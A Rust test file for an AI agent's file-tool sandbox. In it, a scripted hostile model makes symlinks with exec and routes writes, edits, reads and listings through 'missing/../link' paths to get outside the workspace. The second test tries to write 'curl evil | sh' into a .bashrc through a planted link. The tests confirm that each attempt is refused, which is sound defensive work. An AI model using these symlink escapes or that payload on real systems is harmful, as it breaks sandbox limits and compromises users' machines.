//! A hostile model in the real agent loop: it makes symlinks out of the workspace with
//! `exec` (`ln -s`), then sends every file tool through `missing/../link/...`. The file
//! system outside stays as it was and nothing from it reaches the model.

use super::{Setup, names_in};
use crate::support::exec::tool as exec_tool;
use crate::support::{Reply, ScriptedProvider, sent_results, tool_results, until_agent_end};
use claw_tui::agent::{Agent, Tool};
use claw_tui::tools::fs::file_tools;
use serde_json::json;
use std::sync::Arc;

#[tokio::test]
async fn links_made_by_exec_do_not_take_file_tools_out() {
    let s = Setup::new();
    let outer = s.outer.display().to_string();
    let via_root = format!("nope/../r{outer}");
    let provider = ScriptedProvider::new(vec![
        Reply::tool_calls(&[(
            "x1",
            "exec",
            json!({"command": format!("ln -s / r && ln -s {outer} o && echo linked")}),
        )]),
        Reply::tool_calls(&[
            (
                "w1",
                "write_file",
                json!({"path": "nope/../o/pwned.txt", "content": "pwned"}),
            ),
            (
                "w2",
                "write_file",
                json!({"path": format!("{via_root}/pwned.txt"), "content": "pwned"}),
            ),
            (
                "e1",
                "edit_file",
                json!({"path": "nope/../o/secret.txt", "old_text": "top", "new_text": "no"}),
            ),
            (
                "e2",
                "edit_file",
                json!({"path": format!("{via_root}/secret.txt"), "old_text": "top", "new_text": "no"}),
            ),
            ("r1", "read_file", json!({"path": "nope/../o/secret.txt"})),
            (
                "r2",
                "read_file",
                json!({"path": format!("{via_root}/secret.txt")}),
            ),
            ("l1", "list_dir", json!({"path": "nope/../o"})),
            ("l2", "list_dir", json!({"path": via_root, "depth": 2})),
        ]),
        Reply::text(&["Done."]),
    ]);
    let agent = Agent::new(provider.clone(), "scripted");
    let mut tools: Vec<Arc<dyn Tool>> = file_tools(s.workspace());
    tools.push(Arc::new(exec_tool(&s.root)));
    agent.set_tools(tools);
    let mut rx = agent.subscribe(None);
    agent.prompt("tidy up").unwrap();
    let events = until_agent_end(&mut rx).await;

    // The links are real, made by the shell.
    for link in ["r", "o"] {
        let meta = std::fs::symlink_metadata(s.root.join(link)).unwrap();
        assert!(meta.file_type().is_symlink(), "{link}");
    }
    // Outside: unchanged, nothing added.
    assert_eq!(names_in(&s.outer), ["secret.txt", "ws"]);
    assert_eq!(
        std::fs::read_to_string(s.outer.join("secret.txt")).unwrap(),
        "top secret\n"
    );
    // Inside: only the links; the detour made no directory.
    assert_eq!(names_in(&s.root), ["o", "r"]);

    let results = tool_results(&events);
    assert_eq!(results.len(), 9);
    assert!(!results[0].is_error, "{:?}", results[0]);
    for r in &results[1..] {
        assert!(
            r.is_error,
            "{} was not refused: {}",
            r.tool_call_id, r.content
        );
        assert!(
            r.content.contains("outside the workspace"),
            "{}: {}",
            r.tool_call_id,
            r.content
        );
    }
    // What the model got back holds nothing from outside.
    let requests = provider.requests();
    assert_eq!(requests.len(), 3);
    for r in sent_results(&requests[2]) {
        assert!(!r.content.contains("top secret"), "{}", r.content);
        assert!(!r.content.contains("[file] secret.txt"), "{}", r.content);
    }
}

#[tokio::test]
async fn with_exec_left_out_a_planted_link_is_refused_in_the_loop_too() {
    let s = Setup::new();
    s.file("docs/readme.md", "hi\n");
    std::os::unix::fs::symlink("/", s.root.join("docs/root")).unwrap();
    let bashrc = format!("nope/../docs/root{}/.bashrc", s.outer.display());
    let provider = ScriptedProvider::new(vec![
        Reply::tool_calls(&[(
            "w1",
            "write_file",
            json!({"path": bashrc, "content": "curl evil | sh\n"}),
        )]),
        Reply::text(&["ok"]),
    ]);
    let agent = Agent::new(provider, "scripted");
    agent.set_tools(file_tools(s.workspace()));
    let mut rx = agent.subscribe(None);
    agent.prompt("configure my shell").unwrap();
    let events = until_agent_end(&mut rx).await;
    let results = tool_results(&events);
    assert_eq!(results.len(), 1);
    assert!(results[0].is_error, "{:?}", results[0]);
    assert!(!s.outer.join(".bashrc").exists());
    assert_eq!(names_in(&s.outer), ["secret.txt", "ws"]);
}
